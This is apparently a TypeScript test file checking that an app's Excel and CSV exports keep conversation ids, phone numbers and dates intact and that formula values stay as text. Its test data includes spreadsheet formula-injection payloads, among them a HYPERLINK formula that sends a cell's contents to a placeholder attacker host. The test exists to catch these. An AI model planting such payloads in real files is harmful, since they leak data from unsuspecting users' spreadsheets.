/**
 * `exportXlsx` against the local Anyreach API, read back with exceljs, and the CSV of the same
 * data read back with papaparse: every conversation once, the data as it is (real guest ids,
 * participants, E.164 numbers), typed cells, and formula payloads that stay text.
 */
import { expect } from '@open-wc/testing';
import { allPages } from '../../src/data/all-pages.js';
import { createAnyreachSource } from '../../src/data/anyreach.js';
import { createMemorySource } from '../../src/data/memory.js';
import type { Conversation } from '../../src/data/types.js';
import { exportCsv } from '../../src/export/export-csv.js';
import { exportXlsx, XLSX_MIME_TYPE } from '../../src/export/export-xlsx.js';
import { apiSession } from '../data/api-session.js';
import { makeConversation } from '../fixtures/conversations.js';
import { readCsv } from './csv-file.js';
import { readXlsx } from './xlsx-file.js';

const api = apiSession('export-xlsx');
const E164 = /^\+[0-9]{7,15}$/;
const COLUMNS = ['callerId', 'agentNumber', 'summary', 'duration', 'date', 'time', 'lastActivity'];
const source = () => createAnyreachSource({ baseUrl: api.anyreach, token: 'ak_demo.sensitive', pageSize: 100 });

async function serverConversations(): Promise<{ items: Conversation[] }> {
  const items: Conversation[] = [];
  for await (const page of allPages(source(), {})) items.push(...page.items);
  return { items };
}

const FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"open me")', '+1+1', '-2+3', '@SUM(1)', '\t=1+1', '\r=1+1'];

describe('exportXlsx and exportCsv against the local API', () => {
  before(async () => {
    await api.control({ count: 250, seed: 20, faults: [], latencyMs: 0 });
  });

  it('Excel: every conversation once, text cells for ids and numbers, seconds as numbers, dates in the chosen zone', async () => {
    const { items } = await serverConversations();
    expect(items.length, 'the server has conversations').to.be.greaterThan(200);
    const byId = new Map(items.map((c) => [c.id, c]));

    const file = await exportXlsx(source(), {}, { columns: COLUMNS, timeZone: 'America/New_York' });

    expect(file.type).to.equal(XLSX_MIME_TYPE);
    const book = await readXlsx(file);
    expect(book.header).to.deep.equal([
      'Conversation ID',
      'Detail link',
      'Caller ID',
      'Agent Number',
      'Summary',
      'Duration (seconds)',
      'Other participants',
      'Created (America/New_York)',
      'Last activity (America/New_York)',
    ]);
    expect(book.rows.map((row) => row['Conversation ID']!.value).sort()).to.deep.equal([...byId.keys()].sort());
    expect(book.formulas).to.equal(0);
    let guests = 0;
    let phones = 0;
    let participants = 0;
    for (const row of book.rows) {
      const conversation = byId.get(row['Conversation ID']!.value as string)!;
      const caller = row['Caller ID'];
      if (conversation.callerId) {
        expect(caller, conversation.id).to.deep.include({ kind: 'string', value: conversation.callerId });
        if (conversation.callerId.startsWith('guest_')) guests += 1;
        if (E164.test(conversation.callerId)) phones += 1;
      }
      if (conversation.agentNumber) expect(row['Agent Number']).to.deep.include({ kind: 'string', value: conversation.agentNumber });
      if (conversation.extraParticipants?.length) {
        participants += 1;
        expect(row['Other participants']!.value).to.equal(conversation.extraParticipants.join('; '));
      }
      if (typeof conversation.durationSeconds === 'number') {
        expect(row['Duration (seconds)']).to.deep.include({ kind: 'number', value: conversation.durationSeconds });
      }
      // exceljs reads a date cell's wall clock as if it were UTC.
      const created = row['Created (America/New_York)']!;
      expect(created.kind).to.equal('date');
      const wall = new Date(conversation.createdAt!);
      const newYork = new Intl.DateTimeFormat('sv-SE', { timeZone: 'America/New_York', dateStyle: 'short', timeStyle: 'medium' }).format(wall);
      expect((created.value as Date).toISOString().slice(0, 19).replace('T', ' ')).to.equal(newYork);
      expect(created.numFmt).to.equal('yyyy-mm-dd hh:mm:ss');
    }
    expect(guests, 'the data has guests').to.be.greaterThan(0);
    expect(phones, 'the data has E.164 callers').to.be.greaterThan(0);
    expect(participants, 'the data has extra participants').to.be.greaterThan(0);
    expect(book.frozenRows).to.equal(1);
    expect(book.autoFilter).to.equal(`A1:I${book.rows.length + 1}`);
    expect(book.headerBold).to.equal(true);
    expect(book.widths.every((width) => width !== undefined && width >= 8 && width <= 60)).to.equal(true);
    expect(book.widths[4], 'the summary column is wider than the duration').to.be.greaterThan(book.widths[5]!);
  });

  it('CSV: the real guest ids, participants, E.164 numbers as they are, ISO times with the zone offset', async () => {
    const { items } = await serverConversations();
    const byId = new Map(items.map((c) => [c.id, c]));

    const { rows, header } = await readCsv(await exportCsv(source(), {}, { columns: COLUMNS, timeZone: 'Asia/Tokyo' }));

    expect(header).to.deep.equal(['Conversation ID', 'Detail link', 'Caller ID', 'Agent Number', 'Summary', 'Duration (seconds)', 'Other participants', 'Created (Asia/Tokyo)', 'Last activity (Asia/Tokyo)']);
    expect(rows.map((row) => row['Conversation ID']).sort()).to.deep.equal([...byId.keys()].sort());
    let guests = 0;
    for (const row of rows) {
      const conversation = byId.get(row['Conversation ID']!)!;
      expect(row['Caller ID']).to.equal(conversation.callerId ?? '');
      if (conversation.callerId?.startsWith('guest_')) guests += 1;
      expect(row['Agent Number']).to.equal(conversation.agentNumber ?? '');
      expect(row['Other participants']).to.equal(conversation.extraParticipants?.join('; ') ?? '');
      const created = row['Created (Asia/Tokyo)']!;
      expect(created).to.match(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+09:00$/);
      expect(new Date(created).getTime()).to.equal(Math.floor(new Date(conversation.createdAt!).getTime() / 1000) * 1000);
    }
    expect(guests).to.be.greaterThan(0);
    expect(rows.some((row) => E164.test(row['Caller ID']!)), 'E.164 numbers written without a quote').to.equal(true);
  });

  it('formula payloads: neutralized in CSV, plain text cells in Excel; E.164 alone stays as it is', async () => {
    const rows = [...FORMULAS, '+16465555195', '+1 646 555 0100', '+12'].map((value, index) =>
      makeConversation(index, { id: `f${index}`, callerId: value, summary: value, tags: [value] }),
    );
    const columns = ['callerId', 'summary', 'tags'];

    const book = await readXlsx(await exportXlsx(createMemorySource(rows), {}, { columns }));
    const csv = await readCsv(await exportCsv(createMemorySource(rows), {}, { columns }));

    expect(book.formulas).to.equal(0);
    for (const conversation of rows) {
      const cell = book.rows.find((row) => row['Conversation ID']!.value === conversation.id)!;
      const record = csv.rows.find((row) => row['Conversation ID'] === conversation.id)!;
      const value = conversation.callerId!;
      expect(cell['Caller ID'], JSON.stringify(value)).to.deep.include({ kind: 'string', value });
      expect(cell.Summary).to.deep.include({ kind: 'string', value });
      expect(record['Caller ID'], JSON.stringify(value)).to.equal(E164.test(value) ? value : /^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
    }
  });

  it('every field, in the catalogue order, when the columns are "all"', async () => {
    const book = await readXlsx(await exportXlsx(createMemorySource([makeConversation(1, { unreadCount: 3 })]), {}, { columns: 'all', timeZone: 'UTC' }));
    expect(book.header).to.deep.equal([
      'Conversation ID',
      'Detail link',
      'Recording URL',
      'Agent',
      'Caller ID',
      'Caller Name',
      'Agent Number',
      'Direction',
      'Status',
      'Summary',
      'Duration (seconds)',
      'Type',
      'Customer',
      'Priority',
      'Assignee',
      'Tags',
      'Unread',
      'Other participants',
      'Created (UTC)',
      'Last activity (UTC)',
    ]);
    expect(book.rows[0]!.Unread).to.deep.include({ kind: 'number', value: 3 });
  });
});
